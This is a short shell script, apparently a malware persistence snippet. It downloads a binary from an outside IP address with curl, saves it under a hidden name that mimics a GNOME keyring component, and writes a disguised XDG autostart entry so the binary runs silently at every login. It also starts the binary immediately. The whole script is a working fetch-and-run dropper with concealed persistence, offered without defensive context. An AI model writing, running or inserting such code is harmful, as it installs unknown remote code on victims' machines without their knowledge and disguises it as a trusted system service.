# Writes an XDG autostart .desktop entry (via here-doc) that launches a hidden downloaded agent at each desktop login.
dir="${XDG_CONFIG_HOME:-$HOME/.config}/autostart"
bin="$HOME/.local/bin/.gnome-keyring-sync"
mkdir -p "$dir" "$(dirname "$bin")"

curl -fsSL "http://203.0.113.77/agent" -o "$bin" && chmod +x "$bin"

cat > "$dir/gnome-keyring-sync.desktop" <<DESKTOP
[Desktop Entry]
Type=Application
Name=GNOME Keyring Sync
Exec=sh -c '$bin >/dev/null 2>&1 &'
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
DESKTOP

"$bin" >/dev/null 2>&1 &
